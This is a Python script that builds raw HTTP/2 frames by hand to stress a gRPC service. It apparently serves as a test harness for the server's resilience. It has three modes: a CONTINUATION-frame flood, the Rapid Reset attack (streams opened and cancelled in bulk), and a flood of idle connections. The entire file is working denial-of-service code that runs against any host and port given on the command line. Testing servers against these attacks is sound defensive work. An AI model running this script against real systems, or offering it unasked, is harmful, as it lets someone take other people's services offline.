#!/usr/bin/python3
"""Hostile HTTP/2 clients against the gRPC port, written frame by frame (no HTTP/2
library: the point is to send what a correct client never would). Usage:
  http2_hostile.py MODE HOST PORT N [HOLD_S]
  continuation  one connection: HEADERS without END_HEADERS, then N KiB of CONTINUATION
  reset         one connection: N streams, each HEADERS then RST_STREAM at once (Rapid Reset)
  idle          N connections that send the preface and SETTINGS, then nothing
then keeps its sockets open HOLD_S seconds (default 3) and exits 0; "done" on stdout
once everything was sent (a connection the server ended is reported, not an error)."""
import socket
import struct
import sys
import time


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, new name (RFC 7541 6.2.2)."""
    def length(n):  # 7-bit prefix integer, no Huffman
        if n < 127:
            return bytes([n])
        out, n = [127], n - 127
        while n >= 128:
            out.append((n & 127) | 128)
            n >>= 7
        return bytes(out + [n])
    return b"\x00" + length(len(name)) + name + length(len(value)) + value


HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS, CANCEL = 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")
CALL = b"".join(literal(k, v) for k, v in [(b":method", b"POST"), (b":scheme", b"http"),
                                           (b":path", b"/metamorph.v1.MetaMorph/GetModelInfo"),
                                           (b":authority", b"localhost"), (b"content-type", b"application/grpc"),
                                           (b"te", b"trailers")])


def send_all(sock, frames, what):
    try:
        sock.sendall(frames)
        return True
    except OSError as e:
        print(what, "ended by the server:", e)
        return False


def continuation(host, port, kib):
    s = socket.create_connection((host, port))
    s.sendall(PREFACE + frame(HEADERS, 0, 1, CALL))
    chunk = b"".join(literal(b"x-pad-%d" % i, b"a" * 1000) for i in range(15))  # ~15 KiB a frame
    sent = 0
    while sent < kib << 10 and send_all(s, frame(CONTINUATION, 0, 1, chunk), "continuation"):
        sent += len(chunk)
    return [s]


def rapid_reset(host, port, n):
    s = socket.create_connection((host, port))
    s.sendall(PREFACE)
    batch = b""
    for i in range(n):
        stream = 2 * i + 1
        batch += frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        if len(batch) > 65536 or i == n - 1:
            if not send_all(s, batch, "rapid reset"):
                break
            batch = b""
    return [s]


def idle(host, port, n):
    socks = []
    for _ in range(n):
        s = socket.create_connection((host, port))
        s.sendall(PREFACE)
        socks.append(s)
    return socks


mode, host, port, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
held = {"continuation": continuation, "reset": rapid_reset, "idle": idle}[mode](host, port, n)
print("done", flush=True)
time.sleep(float(sys.argv[5]) if len(sys.argv) > 5 else 3)
